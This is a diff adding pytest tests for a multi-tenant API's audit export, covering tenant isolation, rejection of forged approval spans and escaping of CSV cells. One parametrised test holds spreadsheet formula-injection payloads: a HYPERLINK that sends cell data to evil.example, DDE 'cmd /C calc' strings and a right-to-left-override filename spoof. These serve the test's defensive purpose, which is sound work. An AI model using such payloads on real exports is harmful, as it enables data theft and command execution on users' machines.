@@ -2,7 +2,7 @@
 serve`, real keys, the real CLI).
 
 A view that interprets spans (metrics, executions, functions, contracts, the approvals
-inbox, a request's state) counts a span only when a platform key signed it
+inbox, a request's state, the audit export) counts a span only when a platform key signed it
 and it is of the caller's tenant; anything else is left out or marked with its author, and a
 record the view cannot read is skipped and flagged, never a 500.
 The CLI (`approvals list`, `proposal show`) prints names and paths with their invisible
@@ -17,6 +17,8 @@ platform's are appended straight into the ledger, as a ledger written before the
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import subprocess
 import sys
@@ -31,6 +33,7 @@ from test_api import REPO, Api, Key, client_signed, start_api
 from test_governance import personal_ops_as
 
 from stage0 import keys, ledger
+from stage0.display import visible
 from stage0.proofs import public_key_hex
 
 pytestmark = pytest.mark.slow
@@ -371,6 +374,121 @@ def test_another_tenant_cannot_see_or_count_in_a_request(api, acme, globex):
         error(globex.http(key).get(f"/api/proposals/{asked['proposal_id']}"), 404, "NOT_FOUND")
         assert asked["proposal_id"] not in {i["id"] for i in inbox(globex, key)["items"]}
 
+
+# --- the audit trail and its export ----------------------------------------------------------
+def export(people: People, key: Key, **params: Any) -> httpx.Response:
+    answer = people.http(key).get("/api/audit/export", params=params)
+    assert answer.status_code == 200, answer.text
+    return answer
+
+
+def verify_export(api: Api, tmp_path, text: str) -> subprocess.CompletedProcess:
+    path = tmp_path / f"export-{uuid.uuid4().hex[:8]}.jsonl"
+    path.write_text(text)
+    return subprocess.run([sys.executable, "-m", "stage0.cli", "verify", "--export", str(path)],
+                          env=api.env, cwd=REPO, capture_output=True, text=True, timeout=60)
+
+
+@pytest.fixture(scope="module")
+def trail(api, acme, globex, client_key) -> dict[str, Any]:
+    """A request of acme, and what others wrote into its trail."""
+    asked = planned(acme, ["photos/trail.jpg"])
+    trace = asked["trace_id"]
+    made: dict[str, Any] = {"asked": asked, "trace": trace}
+    # a writer's approval-shaped span of a plain kind, signed by their (trusted) key
+    made["lookalike"] = post_signed(
+        acme.http(acme.writer), client_key, entity_type="note", who="paula", did="approved",
+        this="personal_ops.delete", owner_id="wendy", parent_id=asked["proposal_id"],
+        trace_id=trace, status="approved",
+        content={"reason": "lgtm", "plan_hash": "0" * 64, "roles": ["approver"]})
+    # an `approval` the platform never signed
+    made["forged"] = forge_approval(api, asked, "approved", client_key, owner="wendy")
+    # another tenant's public spans carrying acme's trace id
+    made["other"] = globex.http(globex.writer).post("/api/spans", json={
+        "entity_type": "note", "who": "paula", "did": "approved", "this": "personal_ops.delete",
+        "visibility": "public", "trace_id": trace, "status": "approved"}).json()
+    return made
+
+
+def test_a_lookalike_approval_does_not_count_in_the_requests_state(acme, trail):
+    state = acme.http(acme.approver).get(f"/api/proposals/{trail['asked']['proposal_id']}")
+    assert state.json()["approvals"] == []
+    assert [f["id"] for f in state.json()["flags"]] == [trail["forged"]["id"]]
+
+
+def test_the_export_holds_only_the_tenants_spans_each_marked_with_what_it_is(api, acme,
+                                                                              trail):
+    lines = [json.loads(x) for x in export(acme, acme.approver,
+                                           trace_id=trail["trace"]).text.splitlines()]
+    by_id = {s["id"]: s for s in lines}
+    assert trail["other"]["id"] not in by_id
+    assert {s["tenant_id"] for s in lines} == {"acme"}
+    assert by_id[trail["forged"]["id"]]["record"] == "forged"
+    assert by_id[trail["lookalike"]["id"]]["record"] == "tenant"
+    platform = [s for s in lines if s["record"] == "platform"]
+    assert {"gate_decision", "approval_request", "job", "job_claim", "job_result"} <= {
+        s["entity_type"] for s in platform}
+    assert not [s for s in lines if s["entity_type"] == "approval" and s["record"] ==
+                "platform"]
+    # by type, too: another tenant's public spans are never in a tenant's export
+    notes = export(acme, acme.viewer, entity_type="note").text
+    assert trail["other"]["id"] not in notes
+
+
+def test_verify_export_fails_a_platform_kind_the_platform_did_not_sign(api, acme, trail,
+                                                                       tmp_path):
+    text = export(acme, acme.approver, trace_id=trail["trace"]).text
+    proc = verify_export(api, tmp_path, text)
+    assert proc.returncode == 1
+    assert f"{trail['forged']['id']} KIND_NOT_PLATFORM_SIGNED" in proc.stdout
+    others = "".join(line + "\n" for line in text.splitlines()
+                     if json.loads(line)["id"] != trail["forged"]["id"])
+    proc = verify_export(api, tmp_path, others)
+    assert proc.returncode == 0, proc.stdout
+    assert "1 written by tenants" in proc.stdout  # the writer's look-alike, for what it is
+
+
+def test_verify_export_fails_a_line_relabelled_as_a_platform_record(api, acme, trail,
+                                                                    tmp_path):
+    line = json.loads(export(acme, acme.approver, trace_id=trail["trace"],
+                             entity_type="note").text.splitlines()[0])
+    assert line["id"] == trail["lookalike"]["id"]
+    line["record"] = "platform"
+    proc = verify_export(api, tmp_path, json.dumps(line) + "\n")
+    assert proc.returncode == 1
+    assert "RECORD_MISLABELLED" in proc.stdout
+
+
+FORMULAS = {"this": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+            "who": "+1+cmd|' /C calc'!A0", "did": "-2+3", "status": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+@pytest.mark.parametrize("field, value", [
+    *FORMULAS.items(), ("who", "\t=1+1"), ("did", "\r=1+1"), ("this", "=1+1"),
+    ("this", f"photo{RLO}gpj.exe"), ("status", "\u200bapproved"),
+])
+def test_csv_cells_a_spreadsheet_would_run_or_misread_are_escaped(api, acme, tmp_path, field,
+                                                                   value):
+    trace = str(uuid.uuid4())
+    span = {"entity_type": "note", "who": "wendy", "this": "a note", "trace_id": trace,
+            "visibility": "tenant", field: value}
+    posted = acme.http(acme.writer).post("/api/spans", json=span)
+    assert posted.status_code == 201, posted.text
+    text = export(acme, acme.approver, trace_id=trace, format="csv").text
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert len(rows) == 1
+    for cell in rows[0].values():
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+        assert RLO not in cell and "\u200b" not in cell
+    shown = rows[0][field]
+    if value.startswith(("=", "+", "-", "@")):
+        assert shown == "'" + value  # defused, and still readable
+    else:
+        assert shown == visible(value) and "\\u" in shown
+    # the JSON lines keep the span exactly as signed, and verify
+    jsonl = export(acme, acme.approver, trace_id=trace).text
+    assert json.loads(jsonl)[field] == value
+    assert verify_export(api, tmp_path, jsonl).returncode == 0
 
 
 # --- the CLI inbox ----------------------------------------------------------------------------
